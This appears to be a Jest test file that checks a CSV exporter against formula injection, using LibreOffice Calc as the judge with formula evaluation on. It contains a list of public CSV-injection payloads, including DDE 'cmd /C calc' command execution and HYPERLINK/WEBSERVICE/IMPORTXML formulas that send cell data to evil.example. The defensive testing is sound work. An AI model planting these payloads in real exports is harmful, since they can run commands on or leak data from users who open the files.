import { execFileSync, spawnSync } from 'node:child_process';
import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { DirObjectStore } from '../../../src/adapters/local/dir-object-store';
import type { CsvDialect } from '../../../src/core/exports/formats/datasets';
import { PeriodExporter } from '../../../src/core/exports/formats/period-exporter';
import { ManualClock } from '../../../src/core/shared/clock';
import { silentLogger } from '../../../src/core/shared/logger';
import { COMPANY, transaction } from '../../helpers/export-fixtures';
import { tempDirSync } from '../../helpers/temp-dirs';

/**
 * CSV formula injection judged by a spreadsheet, not by our model of one (test/helpers/spreadsheet-csv.ts,
 * written alongside the writer). LibreOffice Calc imports each CSV file the way Excel opens one:
 * formulas evaluated (its CSV filter's "evaluate formulas" token, which Excel has no switch for),
 * quoted fields not forced to text, and with either list separator, `,` (English locales) or `;`
 * (German, where the decimal mark is a comma), since either program may open either dialect. No
 * cell of the result may be a formula. A control file with the same payloads written naively
 * must give formula cells, so a LibreOffice that stopped evaluating would fail here, not pass.
 *
 * The payloads are the public cheat sheets' (OWASP "CSV Injection", PayloadsAllTheThings "CSV
 * Injection"), and the variants that split a cell for a reader on the other separator or across
 * a line break. LibreOffice is a desktop suite a fresh machine does not have: these tests run where
 * `soffice` is on the PATH and are reported skipped elsewhere; `ACCTOPS_REQUIRE_LIBREOFFICE=1`
 * makes its absence a failure. The manual check bench/exports/excel-de-libreoffice.ts covers the
 * excel-de dialect's numbers and dates.
 */

const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '=HYPERLINK("http://evil.example/";"Click")',
  '=WEBSERVICE("http://evil.example/")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '  +1+1',
  '"=1+1"',
  '""=1+1',
  'Rent;=1+1',
  'Rent,=1+1',
  'Rent;+1+1',
  'Rent; =1+1',
  'Rent;"=1+1"',
  'Rent,"=1+1"',
  'Rent;;=1+1',
  'Rent,;-1+1',
  'Invoice 42\n=1+1',
  'Invoice 42\r\n-1+1',
  'Invoice 42\r=1+1',
  'Invoice 42\n\n@SUM(1+1)',
  'Invoice 42\n "=1+1',
  '\r=1+1;x',
  'x;\r=1+1',
  'Miete, Oktober; =HYPERLINK("http://evil.example/")',
];

const SEPARATORS = { comma: 44, semicolon: 59 } as const;

function libreOfficeVersion(): string | undefined {
  const probe = spawnSync('soffice', ['--version'], { encoding: 'utf8', timeout: 60_000 });
  return probe.status === 0 ? probe.stdout.trim() : undefined;
}

const version = libreOfficeVersion();
if (version === undefined && process.env.ACCTOPS_REQUIRE_LIBREOFFICE === '1') {
  throw new Error('ACCTOPS_REQUIRE_LIBREOFFICE=1 but soffice is not on the PATH');
}
const withLibreOffice = version === undefined ? describe.skip : describe;

/**
 * LibreOffice's CSV import of `files` into flat ODF next to them: separator, `"` quotes, UTF-8 (76),
 * from line 1, no column formats, English (1033), quoted fields not as text, no special numbers,
 * then formulas evaluated (the 13th token).
 */
function importAll(work: string, files: string[], separator: number): void {
  execFileSync(
    'soffice',
    [
      `-env:UserInstallation=file://${join(work, 'profile')}`,
      '--headless',
      `--infilter=CSV:${separator},34,76,1,,1033,false,false,false,false,false,0,true`,
      '--convert-to',
      'fods',
      '--outdir',
      join(work, `imported-${separator}`),
      ...files,
    ],
    { stdio: 'ignore', timeout: 180_000 },
  );
}

function imported(work: string, file: string, separator: number): string {
  const name = file
    .split('/')
    .pop()!
    .replace(/\.csv$/, '.fods');
  return readFileSync(join(work, `imported-${separator}`, name), 'utf8');
}

/** The formulas of a flat ODF spreadsheet, as LibreOffice stored them (`of:=…`). */
function formulas(fods: string): string[] {
  return [...fods.matchAll(/table:formula="([^"]*)"/g)].map((m) => m[1]!);
}

/** The text of the cells of the first column, row by row: where each row's public_id landed. */
function firstColumn(fods: string): string[] {
  return [...fods.matchAll(/<table:table-row[^>]*>\s*<table:table-cell[^>]*?(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)].map((m) =>
    (m[1] ?? '').replace(/<[^>]+>/g, '').trim(),
  );
}

withLibreOffice(`${version ?? 'LibreOffice'} opening our CSV as a spreadsheet with formulas on`, () => {
  jest.setTimeout(300_000);
  const work = tempDirSync('acctops-csv-injection-');
  const files: Record<CsvDialect, string> = { standard: '', 'excel-de': '' };
  /** The controls: each payload as a bare field after its id, as a writer without any defence emits it. */
  const naive = { [SEPARATORS.comma]: join(work, 'naive-comma.csv'), [SEPARATORS.semicolon]: join(work, 'naive-semicolon.csv') };
  const ids = PAYLOADS.map((_, i) => `7e57da7a-0000-4000-8000-${String(i).padStart(12, '0')}`);

  beforeAll(async () => {
    const items = PAYLOADS.map((description, i) => transaction(i, { publicId: ids[i], description }));
    for (const dialect of ['standard', 'excel-de'] as const) {
      const root = join(work, dialect);
      const summary = await new PeriodExporter({
        store: new DirObjectStore(root),
        clock: new ManualClock(Date.parse('2026-11-02T08:00:00Z')),
        logger: silentLogger,
        toolVersion: 'test',
      }).run({
        company: COMPANY,
        period: '2026-10',
        sources: { transactions: items },
        datasets: ['transactions'],
        formats: ['csv'],
        csvDialect: dialect,
        sourceBaseUrl: 'http://127.0.0.1:1/api/v1',
      });
      const key = summary.manifest.objects.find((o) => o.format === 'csv' && o.dataset === 'transactions')!.key;
      files[dialect] = join(work, `${dialect}.csv`);
      copyFileSync(join(root, key), files[dialect]);
    }
    for (const separator of Object.values(SEPARATORS)) {
      writeFileSync(naive[separator], PAYLOADS.map((p, i) => `${ids[i]}${String.fromCharCode(separator)}${p}`).join('\r\n'));
    }
    for (const separator of Object.values(SEPARATORS)) importAll(work, [...Object.values(files), naive[separator]], separator);
  });

  it('evaluates formulas in the naive control file, with either separator (the judge can see one)', () => {
    for (const separator of Object.values(SEPARATORS)) {
      const found = formulas(imported(work, naive[separator], separator));
      // 15 of the 34 as LibreOffice 7.4 reads them: most others start with a quote, a space or a tab.
      expect(found.length).toBeGreaterThanOrEqual(10);
      expect(found).toContain('of:=1+1');
    }
  });

  it.each([
    ['standard', 'comma'],
    ['standard', 'semicolon'],
    ['excel-de', 'semicolon'],
    ['excel-de', 'comma'],
  ] as const)('the %s dialect opened with the %s separator has no formula cell', (dialect, separator) => {
    expect(formulas(imported(work, files[dialect], SEPARATORS[separator]))).toEqual([]);
  });

  it.each([
    ['standard', 'comma'],
    ['excel-de', 'semicolon'],
  ] as const)('the %s dialect opened with its own separator (%s) keeps one row per record', (dialect, separator) => {
    const rows = firstColumn(imported(work, files[dialect], SEPARATORS[separator]));
    // A BOM-less header cell, then every record's id in order: no payload broke its row.
    expect(rows[0]).toBe('public_id');
    expect(rows.slice(1, 1 + ids.length)).toEqual(ids);
  });
});
